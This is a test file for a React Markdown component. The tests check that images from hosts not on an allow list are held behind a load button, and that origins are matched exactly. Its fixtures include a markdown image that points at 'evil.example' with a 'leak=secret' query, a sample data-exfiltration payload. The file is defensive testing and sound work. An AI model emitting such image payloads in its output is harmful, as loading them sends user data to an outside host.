import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { en } from '../locale/en.js';
import { LocaleProvider } from '../locale/LocaleProvider.js';
import { isImageAllowed } from './imageOrigins.js';
import { Markdown } from './Markdown.js';

afterEach(cleanup);

const leak = '![x](https://evil.example/p.png?leak=secret)';
const gateway = ['http://127.0.0.1:8787'];

describe('Markdown image origins', () => {
  it('renders no <img> for a foreign image but a button naming its host', () => {
    const { container } = render(<Markdown source={leak} imageOrigins={gateway} />);
    expect(container.querySelector('img')).toBeNull();
    const button = screen.getByRole('button', { name: 'Image from evil.example — Load' });
    expect(button.getAttribute('data-state')).toBe('blocked');
    expect(container.innerHTML).not.toContain('evil.example/p.png');
  });

  it('loads the image once the placeholder is activated, and it then opens like any image', () => {
    const onImageClick = vi.fn();
    const { container } = render(
      <Markdown source={leak} imageOrigins={gateway} onImageClick={onImageClick} />,
    );
    fireEvent.click(screen.getByRole('button', { name: /evil\.example/ }));
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      'https://evil.example/p.png?leak=secret',
    );
    const open = screen.getByRole('button', { name: `${en.common.openImage}: x` });
    expect(document.activeElement).toBe(open);
    fireEvent.click(open);
    expect(onImageClick).toHaveBeenCalledWith('https://evil.example/p.png?leak=secret', 'x');
  });

  it('renders images from an allowed origin, the page origin and data: directly', () => {
    const page = `${window.location.origin}/a.png`;
    const { container } = render(
      <Markdown
        source={`![g](http://127.0.0.1:8787/files/1.png) ![p](${page}) ![d](data:image/png;base64,iVBORw0KGgo=)`}
        imageOrigins={gateway}
      />,
    );
    expect([...container.querySelectorAll('img')].map((img) => img.alt)).toEqual(['g', 'p', 'd']);
    expect(screen.queryByRole('button')).toBeNull();
  });

  it("loads every image at once with imageOrigins='any' (the default outside a chat)", () => {
    const { container, rerender } = render(<Markdown source={leak} imageOrigins="any" />);
    expect(container.querySelector('img')?.getAttribute('src')).toContain('evil.example');
    rerender(<Markdown source={leak} />);
    expect(container.querySelector('img')?.getAttribute('src')).toContain('evil.example');
  });

  it('shows the host without a button for a foreign image inside a link', () => {
    const { container } = render(
      <Markdown
        source="[![b](https://evil.example/b.png)](https://ci.example)"
        imageOrigins={[]}
      />,
    );
    const link = screen.getByRole('link');
    expect(link.querySelector('img, button')).toBeNull();
    expect(link.textContent).toBe('Image from evil.example');
    expect(container.querySelector('[data-state="blocked"]')).not.toBeNull();
  });

  it('names the host in Chinese under the zh-CN locale', () => {
    render(
      <LocaleProvider locale="zh-CN">
        <Markdown source={leak} imageOrigins={[]} />
      </LocaleProvider>,
    );
    expect(screen.getByRole('button', { name: '加载来自 evil.example 的图片' })).toBeTruthy();
  });
});

describe('isImageAllowed', () => {
  it('compares origins, not prefixes, and reduces listed URLs to their origin', () => {
    const list = ['https://cdn.example/some/path'];
    expect(isImageAllowed('https://cdn.example/x.png', list, null)).toBe(true);
    expect(isImageAllowed('https://cdn.example.evil.example/x.png', list, null)).toBe(false);
    expect(isImageAllowed('http://cdn.example/x.png', list, null)).toBe(false);
    expect(isImageAllowed('https://cdn.example:8443/x.png', list, null)).toBe(false);
    expect(isImageAllowed('HTTPS://CDN.EXAMPLE/x.png', list, null)).toBe(true);
    expect(isImageAllowed('blob:https://page.example/1', [], null)).toBe(true);
    expect(isImageAllowed('https://page.example/x.png', [], 'https://page.example')).toBe(true);
  });
});
